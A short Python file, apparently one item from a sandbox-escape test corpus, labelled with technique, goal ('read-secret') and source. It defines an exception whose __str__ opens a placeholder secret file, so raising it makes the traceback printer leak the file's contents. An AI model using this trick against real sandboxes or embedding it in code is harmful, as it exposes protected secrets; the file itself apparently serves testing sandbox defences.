# technique: __str__ of the exception that ends the program is called by the printer of tracebacks
# goal: read-secret
# source: time bombs
class Bomb(Exception):
    def __str__(self):
        return open('@SECRET@').read()


raise Bomb
